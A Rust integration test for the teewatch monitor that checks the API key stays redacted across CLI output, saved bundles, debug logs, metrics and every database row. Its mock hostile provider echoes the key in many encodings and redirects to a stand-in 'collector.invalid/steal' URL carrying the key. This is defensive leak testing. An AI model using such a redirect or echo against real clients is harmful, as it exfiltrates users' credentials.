//! The API key never leaks: every failure path runs with a key set (from the environment, as a
//! deployment sets it), against the simulator and a hostile provider that echoes the key back
//! in every form it can (the `Authorization` header, the key itself, base64, percent-encoded,
//! JSON-escaped, straddling the cut of an error excerpt, in a redirect's URL, inside a 200
//! answer). Then everything teewatch wrote is scanned: `teewatch check`'s output and saved
//! bundles, the daemon's log (at debug level), `/metrics`, the status page, `history` and
//! `history export`, and every row of every table of the database, compressed columns
//! decompressed. The key appears in none of them, in none of its forms.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use crate::common;

use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use axum::body::Bytes;
use axum::http::{HeaderMap, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use common::process::{KillOnDrop, run_with_json_log};
use common::sim_run::{set_key_source, start};
use sqlx::Row as _;
use sqlx::sqlite::{SqliteConnectOptions, SqlitePoolOptions};
use teewatch_sim::faults::Fault;
use teewatch_sim::server::{SimOptions, model_name};

const BIN: &str = env!("CARGO_BIN_EXE_teewatch");

/// The variable every target reads its key from.
const KEY_ENV: &str = "TEEWATCH_SECRETS_TEST_KEY";

/// The hostile provider's modes, one target each (`/<mode>` is the target's base URL path).
const MODES: [&str; 10] = [
    "401",
    "403",
    "429",
    "500",
    "503",
    "long",
    "redirect",
    "malformed",
    "chat-500",
    "chat-echo",
];

/// A key with characters that every encoding changes (`+`, `/`, `=`), unique to this run.
fn make_key() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("sk-Tw+Secret/Key={nanos:09}x{}", std::process::id())
}

fn percent(key: &str, upper: bool) -> String {
    let mut out = String::new();
    for b in key.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else if upper {
            out.push_str(&format!("%{b:02X}"));
        } else {
            out.push_str(&format!("%{b:02x}"));
        }
    }
    out
}

/// Every form in which the key must not appear, with its name.
fn forms(key: &str) -> Vec<(&'static str, String)> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    vec![
        ("the key", key.to_string()),
        ("its first 12 characters", key.chars().take(12).collect()),
        ("base64", STANDARD.encode(key)),
        ("base64 without padding", STANDARD_NO_PAD.encode(key)),
        ("url-safe base64", URL_SAFE.encode(key)),
        (
            "url-safe base64 without padding",
            URL_SAFE_NO_PAD.encode(key),
        ),
        ("percent-encoded", percent(key, true)),
        ("percent-encoded, lowercase", percent(key, false)),
        ("json-escaped", key.replace('/', "\\/")),
        ("hex", hex::encode(key)),
        ("hex, uppercase", hex::encode_upper(key)),
    ]
}

/// Fails naming what holds which form of the key.
fn assert_clean(what: &str, text: &str, key: &str, scanned: &mut usize) {
    *scanned += text.len();
    for (form, value) in forms(key) {
        if let Some(at) = text.find(&value) {
            let start = at.saturating_sub(80);
            let context: String = text
                .get(start..(at + value.len() + 80).min(text.len()))
                .unwrap_or("")
                .to_string();
            panic!("{what} holds {form} of the api key: …{context}…");
        }
    }
}

/// The body a hostile provider answers an error with: the request's `Authorization` header and
/// the key in every form.
fn echo(headers: &HeaderMap, key: &str) -> String {
    let auth = headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    let b64 = base64::engine::general_purpose::STANDARD.encode(key);
    format!(
        "{{\"error\":\"denied\",\"authorization\":\"{auth}\",\"key\":\"{key}\",\"b64\":\"{b64}\",\"url\":\"{}\",\"escaped\":\"{}\"}}",
        percent(key, true),
        key.replace('/', "\\/")
    )
}

/// The hostile provider: `/<mode>/…` answers as the mode says.
async fn hostile(uri: Uri, headers: HeaderMap, key: String, _body: Bytes) -> Response {
    let path = uri.path().to_string();
    let mut parts = path.trim_start_matches('/').splitn(2, '/');
    let mode = parts.next().unwrap_or("").to_string();
    let rest = parts.next().unwrap_or("");
    let attestation = rest.contains("attestation");
    let chat = rest.contains("chat/completions");
    let status = |code: u16| StatusCode::from_u16(code).unwrap();
    match (mode.as_str(), attestation, chat) {
        ("401" | "403" | "429" | "500" | "503", true, _) => {
            let code: u16 = mode.parse().unwrap();
            let mut response = (status(code), echo(&headers, &key)).into_response();
            response
                .headers_mut()
                .insert(header::RETRY_AFTER, "0".parse().unwrap());
            response
        }
        // The key straddles the 200th character, where error excerpts are cut.
        ("long", true, _) => (status(500), format!("{}{key} {}", "x".repeat(190), echo(&headers, &key)))
            .into_response(),
        ("redirect", true, _) => {
            let location = format!(
                "https://collector.invalid/steal?k={}&raw={key}&b={}",
                percent(&key, true),
                base64::engine::general_purpose::STANDARD.encode(&key)
            );
            let mut response = status(302).into_response();
            response
                .headers_mut()
                .insert(header::LOCATION, location.parse().unwrap());
            response
        }
        ("malformed", true, _) => (status(200), format!("{{\"quote\": {key} not json")).into_response(),
        ("chat-500" | "chat-echo", true, _) => (status(200), "{}".to_string()).into_response(),
        ("chat-500", _, true) => (status(500), echo(&headers, &key)).into_response(),
        // A 200 answer that carries the key, in its id and its text: then its signature is
        // refused with an echo.
        ("chat-echo", _, true) => (
            status(200),
            format!(
                "{{\"id\":\"chatcmpl-{key}\",\"choices\":[{{\"message\":{{\"content\":\"your key is {key}\"}}}}],\"echo\":{}}}",
                echo(&headers, &key)
            ),
        )
            .into_response(),
        _ => (status(401), echo(&headers, &key)).into_response(),
    }
}

/// Starts the hostile provider on a free loopback port.
async fn start_hostile(key: &str) -> SocketAddr {
    let key = key.to_string();
    let app = axum::Router::new().fallback(move |uri: Uri, headers: HeaderMap, body: Bytes| {
        let key = key.clone();
        async move { hostile(uri, headers, key, body).await }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

/// Every row of every table, compressed documents decompressed, as text.
async fn dump_database(db: &Path) -> String {
    let pool = SqlitePoolOptions::new()
        .max_connections(1)
        .connect_with(SqliteConnectOptions::new().filename(db).read_only(true))
        .await
        .unwrap();
    let mut out = String::new();
    let tables: Vec<String> =
        sqlx::query_scalar("SELECT name FROM sqlite_master WHERE type = 'table'")
            .fetch_all(&pool)
            .await
            .unwrap();
    assert!(tables.len() >= 10, "{tables:?}");
    for table in &tables {
        let rows = sqlx::query(&format!("SELECT * FROM \"{table}\""))
            .fetch_all(&pool)
            .await
            .unwrap();
        for row in rows {
            for i in 0..row.len() {
                if let Ok(Some(text)) = row.try_get::<Option<String>, _>(i) {
                    out.push_str(&text);
                } else if let Ok(Some(bytes)) = row.try_get::<Option<Vec<u8>>, _>(i) {
                    out.push_str(&hex::encode(&bytes));
                    out.push_str(&String::from_utf8_lossy(&bytes));
                } else if let Ok(Some(n)) = row.try_get::<Option<i64>, _>(i) {
                    out.push_str(&n.to_string());
                }
                out.push('|');
            }
            out.push('\n');
        }
    }
    // The compressed documents: reference blobs on their own, verdicts and bundles against them.
    let blobs: Vec<(i64, i64, Vec<u8>)> = sqlx::query_as("SELECT id, raw_len, data FROM blobs")
        .fetch_all(&pool)
        .await
        .unwrap();
    let mut references = std::collections::HashMap::new();
    for (id, raw_len, data) in blobs {
        let content = zstd::bulk::decompress(&data, raw_len as usize).unwrap();
        out.push_str(&String::from_utf8_lossy(&content));
        references.insert(id, content);
    }
    let documents: Vec<(i64, i64, Vec<u8>)> = sqlx::query_as(
        "SELECT verdict_dict, verdict_len, verdict FROM checks
         UNION ALL SELECT dict, raw_len, data FROM bundles",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert!(!documents.is_empty());
    for (dict, raw_len, data) in documents {
        let mut d = zstd::bulk::Decompressor::with_dictionary(&references[&dict]).unwrap();
        let content = d.decompress(&data, raw_len as usize).unwrap();
        out.push_str(&String::from_utf8_lossy(&content));
        out.push('\n');
    }
    pool.close().await;
    out
}

fn run_cli(args: &[&str], key: &str) -> std::process::Output {
    Command::new(BIN)
        .args(args)
        .env(KEY_ENV, key)
        .env("RUST_LOG", "debug")
        .output()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_api_key_appears_in_no_output_of_any_failure_path() {
    let key = make_key();
    // The simulator accepts this key; its models fail in the ways a provider's dependencies
    // can: NRAS and the PCCS down, no answer in time, a chat signed by another key, a 500.
    let run = start(
        "secrets",
        SimOptions {
            models: 4,
            api_key: key.clone(),
            faults: vec![
                (Some(model_name(0)), Fault::NrasDown),
                (Some(model_name(0)), Fault::PccsDown),
                (Some(model_name(1)), Fault::Timeout),
                (Some(model_name(2)), Fault::SignatureOtherKey),
                (Some(model_name(3)), Fault::Http500),
            ],
            ..SimOptions::default()
        },
    )
    .await;
    let hostile = start_hostile(&key).await;
    let config = run.dir.join("sim.toml");
    for i in 0..4 {
        let extra = if i == 1 { "\ntimeout_seconds = 1" } else { "" };
        set_key_source(
            &config,
            &model_name(i),
            &format!("api_key_env = \"{KEY_ENV}\"{extra}"),
        );
    }
    let mut text = std::fs::read_to_string(&config).unwrap();
    let closed = common::net::free_port();
    let mut targets: Vec<(String, String)> = MODES
        .iter()
        .map(|m| (format!("hostile-{m}"), format!("http://{hostile}/{m}")))
        .collect();
    // TLS to a server that speaks plain HTTP, and a port nobody listens on.
    targets.push(("hostile-tls".into(), format!("https://{hostile}/401")));
    targets.push(("refused".into(), format!("http://127.0.0.1:{closed}/")));
    for (name, base) in &targets {
        text.push_str(&format!(
            "\n[[target]]\nname = \"{name}\"\nprofile = \"vllm-proxy\"\nbase_url = \"{base}\"\nmodel = \"m\"\napi_key_env = \"{KEY_ENV}\"\ninterval = \"10s\"\n"
        ));
    }
    std::fs::write(&config, &text).unwrap();
    assert!(
        !text.contains(&key),
        "the configuration names the key's place, not the key"
    );
    let target_count = 4 + targets.len();
    let mut scanned = 0usize;

    // 1. `teewatch check` of every target, as JSON and as text, bundles saved.
    let saved = run.dir.join("saved");
    let config_arg = config.to_str().unwrap();
    let out = run_cli(
        &[
            "check",
            "--config",
            config_arg,
            "--json",
            "--save-bundle",
            saved.to_str().unwrap(),
        ],
        &key,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json = String::from_utf8(out.stdout).unwrap();
    // Each hostile answer is in the verdicts, redacted.
    for reason in [
        "401 Unauthorized",
        "403 Forbidden",
        "429 Too Many Requests",
        "503 Service Unavailable",
        "redirect to https://collector.invalid/steal",
        "[redacted]",
    ] {
        assert!(json.contains(reason), "{reason} not in {json}");
    }
    assert_clean("teewatch check --json (stdout)", &json, &key, &mut scanned);
    assert_clean(
        "teewatch check --json (stderr)",
        &String::from_utf8_lossy(&out.stderr),
        &key,
        &mut scanned,
    );
    let files: Vec<_> = std::fs::read_dir(&saved)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(files.len(), target_count, "{files:?}");
    let mut kinds: std::collections::BTreeMap<String, String> = Default::default();
    for file in &files {
        let text = std::fs::read_to_string(file).unwrap();
        assert_clean(
            &format!("saved bundle {}", file.display()),
            &text,
            &key,
            &mut scanned,
        );
        let bundle: serde_json::Value = serde_json::from_str(&text).unwrap();
        let errors: Vec<String> = bundle["fetch_errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                format!(
                    "{}:{}",
                    e["endpoint"].as_str().unwrap(),
                    e["kind"].as_str().unwrap()
                )
            })
            .collect();
        kinds.insert(
            bundle["target"].as_str().unwrap().to_string(),
            errors.join(","),
        );
    }
    // Each path failed the way it was meant to, so the scan covers what each one leaves.
    for (target, kind) in [
        (model_name(0), "pccs:"),
        (model_name(1), "attestation:timeout"),
        (model_name(3), "attestation:http_status"),
        ("hostile-401".into(), "attestation:http_status"),
        ("hostile-redirect".into(), "attestation:http_status"),
        ("hostile-tls".into(), "attestation:tls"),
        ("refused".into(), "attestation:connect"),
        ("hostile-malformed".into(), "attestation:invalid_json"),
        ("hostile-chat-500".into(), "chat:http_status"),
        ("hostile-chat-echo".into(), "signature:http_status"),
    ] {
        assert!(
            kinds[&target].contains(kind),
            "{target}: expected {kind} in {kinds:?}"
        );
    }
    // The 200 chat answer that echoed the key is kept as evidence, the key replaced.
    let echoed = std::fs::read_to_string(saved.join("hostile-chat-echo.json")).unwrap();
    assert!(echoed.contains("chatcmpl-[redacted]"), "{echoed}");
    let out = run_cli(&["check", "--config", config_arg], &key);
    assert_eq!(out.status.code(), Some(1));
    assert_clean(
        "teewatch check (stdout)",
        &String::from_utf8_lossy(&out.stdout),
        &key,
        &mut scanned,
    );
    assert_clean(
        "teewatch check (stderr)",
        &String::from_utf8_lossy(&out.stderr),
        &key,
        &mut scanned,
    );

    // 2. The daemon, at debug level, until every target has a stored check.
    let db = run.dir.join("secrets.db");
    let port = common::net::free_port();
    let mut command = run_with_json_log(port, &config, &db);
    // The debug log goes to a file: a pipe nobody reads until the end would fill and stall it.
    let log_path = run.dir.join("daemon.log");
    command
        .env(KEY_ENV, &key)
        .env("RUST_LOG", "debug")
        .stderr(std::fs::File::create(&log_path).unwrap());
    let mut daemon = KillOnDrop::new(command.spawn().unwrap());
    let started = Instant::now();
    loop {
        let checked = if db.exists() {
            let out = Command::new(common::tool::sqlite3())
                .arg(&db)
                .arg("SELECT count(DISTINCT target_id) FROM checks;")
                .output()
                .unwrap();
            String::from_utf8_lossy(&out.stdout)
                .trim()
                .parse::<usize>()
                .unwrap_or(0)
        } else {
            0
        };
        if checked == target_count {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(180),
            "only {checked} of {target_count} targets checked"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let client = reqwest::Client::new();
    for path in ["/metrics", "/", "/readyz"] {
        let body = client
            .get(format!("http://127.0.0.1:{port}{path}"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(!body.is_empty(), "{path}");
        assert_clean(&format!("GET {path}"), &body, &key, &mut scanned);
    }
    let status =
        tokio::task::block_in_place(|| daemon.signal_and_wait("TERM", Duration::from_secs(60)));
    assert!(status.is_some_and(|s| s.success()), "{status:?}");
    let log = std::fs::read_to_string(&log_path).unwrap();
    assert!(log.contains("\"check finished\""), "{log}");
    assert!(
        log.contains("[redacted]"),
        "the echoed key reached the log, redacted"
    );
    assert_clean("the daemon's log", &log, &key, &mut scanned);

    // 3. What the store keeps, through the commands and row by row.
    let db_arg = db.to_str().unwrap();
    let out = run_cli(&["history", "--db", db_arg, "--json"], &key);
    assert_eq!(out.status.code(), Some(0));
    assert_clean(
        "teewatch history --json",
        &String::from_utf8_lossy(&out.stdout),
        &key,
        &mut scanned,
    );
    let ids = Command::new(common::tool::sqlite3())
        .arg(&db)
        .arg("SELECT id FROM checks;")
        .output()
        .unwrap();
    let ids = String::from_utf8(ids.stdout).unwrap();
    for id in ids.lines() {
        let out = run_cli(&["history", "export", "--db", db_arg, "--check", id], &key);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_clean(
            &format!("history export --check {id}"),
            &String::from_utf8_lossy(&out.stdout),
            &key,
            &mut scanned,
        );
    }
    // Each "check finished" line carries the check's record hash, the witness that
    // `history verify --head` holds the database to.
    let logged: Vec<String> = log
        .lines()
        .filter(|l| l.contains("\"check finished\""))
        .map(|l| {
            let line: serde_json::Value = serde_json::from_str(l).unwrap();
            line["fields"]["record_hash"]
                .as_str()
                .or_else(|| line["record_hash"].as_str())
                .unwrap_or_else(|| panic!("no record_hash in {l}"))
                .to_string()
        })
        .collect();
    assert!(logged.len() >= target_count, "{logged:?}");
    let out = run_cli(
        &[
            "history",
            "verify",
            "--db",
            db_arg,
            "--head",
            logged.last().unwrap(),
        ],
        &key,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_clean(
        "teewatch history verify",
        &String::from_utf8_lossy(&out.stdout),
        &key,
        &mut scanned,
    );
    let rows = dump_database(&db).await;
    assert!(rows.contains("[redacted]"));
    assert_clean("the database", &rows, &key, &mut scanned);
    println!(
        "scanned {scanned} bytes of output for {} forms of the api key",
        forms(&key).len()
    );
}
